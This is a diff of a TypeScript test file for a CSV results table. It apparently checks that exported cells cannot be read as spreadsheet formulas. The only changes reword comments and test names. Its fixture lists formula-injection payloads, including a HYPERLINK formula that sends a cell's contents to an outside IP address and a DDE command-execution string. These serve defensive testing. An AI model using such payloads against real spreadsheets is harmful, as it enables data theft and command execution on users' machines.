@@ -9,7 +9,7 @@ import { temporaryFolder } from '../support/temporary-folder';
 
 const TEXT = { mediaType: 'text/plain', durationSeconds: null, width: null, height: null };
 
-/** What spreadsheets take for a formula, some of them behind characters that they skip. */
+/** Texts that spreadsheets read as formulas, some behind characters that they skip. */
 const FORMULAS = [
   '=HYPERLINK("http://198.51.100.7/?"&A1;"open")',
   "+1+cmd|' /C calc'!A0",
@@ -61,7 +61,7 @@ describe('the table of results', () => {
     expect(table()).toContain('x"');
   });
 
-  it('holds no formula in any cell, however a spreadsheet parts them', async () => {
+  it('has no formula in any cell, however a spreadsheet splits them', async () => {
     const ends = FORMULAS.map(async (words, index) => ({
       key: `r${index}`,
       reason: words,
@@ -79,21 +79,21 @@ describe('the table of results', () => {
         .split(/[\r\n\v\f\u0085\u2028\u2029]/),
     ).toHaveLength(1 + FORMULAS.length);
     const lines = table().trimEnd().split('\n');
-    // As parted at commas, and by a program that knows semicolons or tabs only and quotes at the start of a line.
+    // As split at commas, and by a program that knows only semicolons or tabs, and quotes only at the start of a line.
     const cells = [...parse(table()).flat(), ...lines.flatMap((line) => line.split(/[;\t]/))];
     const seen = cells.map((cell) => cell.normalize('NFKC').replace(/^[\s\p{C}"]*/u, ''));
     expect(seen.filter((cell) => /^[=+\-@|]/.test(cell))).toEqual([]);
     expect(table().split('\n').slice(1, -1).join('\n')).toMatch(/^("([^"\n]|"")*"(,|\n|$))*$/);
   });
 
-  it('is read back by any program, words and numbers', async () => {
+  it('can be read back by any program, words and numbers', async () => {
     await note(1, [{ key: 'a', reason: 'He said "no", twice;\nthen left', credits: 12.5 }]);
     await (await open()).append();
     const [row] = parse<Record<string, string>>(table(), { columns: true });
     expect(row).toMatchObject({ key: 'a', reason: 'He said "no", twice; then left', credits: '12.5', text: '' });
   });
 
-  it('goes on where it stopped, also one of cells without quotes as it was written before', async () => {
+  it('is continued where it stopped, even one without quotes from an earlier version', async () => {
     await note(1, [{ key: 'a' }]);
     await (await open()).append();
     const [head = ''] = table().split('\n');
